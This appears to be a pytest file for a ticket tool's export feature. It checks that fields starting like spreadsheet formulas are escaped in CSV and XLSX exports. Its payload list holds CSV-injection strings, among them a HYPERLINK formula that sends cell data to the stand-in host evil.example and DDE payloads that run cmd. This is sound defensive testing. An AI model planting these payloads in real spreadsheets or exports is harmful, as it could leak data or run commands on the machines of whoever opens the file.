"""Formula injection (issue 11): ticket subjects, categories and ASINs that start like a formula are
written with ``vendordesk tickets add`` and must come out of ``vendordesk export tickets`` as text.

OWASP (CSV injection): a cell beginning with ``= + - @``, tab or carriage return is prefixed with a
single quote. That is the rule for the CSV. In XLSX a string cell is never evaluated, so the text is
kept exactly as typed (no stray quote to sort or filter by) and the cell carries Excel's quotePrefix
style, the workbook form of that same leading quote: editing the cell in Excel keeps it text.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest

from tests.corpus.harness import vendordesk

PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "dde-cmd": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+9)*cmd|' /C calc'!A0",
    "equals-simple": "=1+1",
    "tab-prefixed": "\t=1+1",
    "carriage-return-prefixed": "\r=1+1",
}
FIELDS = ("subject", "category", "asins")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _case_id(n: int) -> str:
    return f"90000{n:02d}"


@pytest.fixture(scope="module")
def exported(template, tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("export")
    home = folder / "home"
    home.mkdir()
    ws = folder / "account.vendordesk"
    shutil.copyfile(template.path, ws)
    for n, payload in enumerate(PAYLOADS.values()):
        run = vendordesk(home, "tickets", "add", "--workspace", str(ws), "--case-id", _case_id(n),
                         "--subject", payload, "--category", payload, "--asin", payload)
        assert run.code == 0, run.err
    out = {}
    for suffix in ("csv", "xlsx"):
        out[suffix] = folder / f"tickets.{suffix}"
        run = vendordesk(home, "export", "tickets", "--workspace", str(ws), "--out", str(out[suffix]))
        assert run.code == 0 and "Traceback" not in run.err, run.err
    return out


def _typed(payload: str, field: str) -> str:
    """What ``tickets add`` stores: the subject trimmed, ASINs trimmed and upper-cased, the category as typed."""
    if field == "subject":
        return payload.strip()
    if field == "asins":
        return payload.strip().upper()
    return payload


def _csv_cells(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return {row["case_id"].lstrip("'"): row for row in csv.DictReader(handle)}


def _xlsx_cells(path: Path) -> dict[str, dict[str, object]]:
    """{case id: {csv key: cell}}; the XLSX headers are in the UI language (English or German)."""
    from openpyxl import load_workbook

    from vendordesk.exports.columns import COLUMNS
    from vendordesk.exports.columns import header as column_header

    key_of = {title: col.key for col in COLUMNS["tickets"]
              for title in (column_header(col, "en"), column_header(col, "de"))}
    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows())
    names = [key_of.get(c.value, c.value) for c in rows[0]]
    assert "case_id" in names, f"no case id column among the XLSX headers {[c.value for c in rows[0]]}"
    return {str(r[names.index("case_id")].value): dict(zip(names, r)) for r in rows[1:]}


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("label", PAYLOADS)
def test_csv_export_escapes_formula(exported, label, field):
    n = list(PAYLOADS).index(label)
    typed = _typed(PAYLOADS[label], field)
    cell = _csv_cells(exported["csv"]).get(_case_id(n), {}).get(field)
    assert cell is not None, f"the CSV row of case {_case_id(n)} is broken (a raw line break in a cell?)"
    assert typed.startswith(DANGEROUS), "each payload starts like a formula"
    assert not cell.startswith(DANGEROUS), f"{field} {cell!r} is written raw: a spreadsheet runs it"
    assert cell == "'" + typed, f"{field}: {cell!r} is not the text {typed!r} behind one single quote"


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("label", PAYLOADS)
def test_xlsx_export_writes_text_not_formula(exported, label, field):
    n = list(PAYLOADS).index(label)
    typed = _typed(PAYLOADS[label], field)
    cell = _xlsx_cells(exported["xlsx"])[_case_id(n)][field]
    assert cell.data_type == "s", f"{field} {cell.value!r} is not a string cell (type {cell.data_type!r})"
    # XML 1.0 reads a raw carriage return as a line feed (line-end normalization): the one change allowed.
    shown = typed.replace("\r\n", "\n").replace("\r", "\n")
    assert cell.value == shown, f"{field}: {cell.value!r} does not keep the text {typed!r}"
    assert cell.quotePrefix, f"{field} {cell.value!r} lacks the quote prefix: editing it in Excel makes a formula"


def test_xlsx_plain_text_has_no_quote_prefix(exported):
    """Text that does not start like a formula is left alone (every case's status, shown in the
    window's word "Open")."""
    cells = _xlsx_cells(exported["xlsx"])
    assert len(cells) == len(PAYLOADS)
    for row in cells.values():
        assert row["status"].value == "Open" and not row["status"].quotePrefix


def test_xlsx_sheet_holds_no_formula(exported):
    """The sheet XML has no <f> element at all (openpyxl could hide an odd one)."""
    import zipfile

    with zipfile.ZipFile(exported["xlsx"]) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
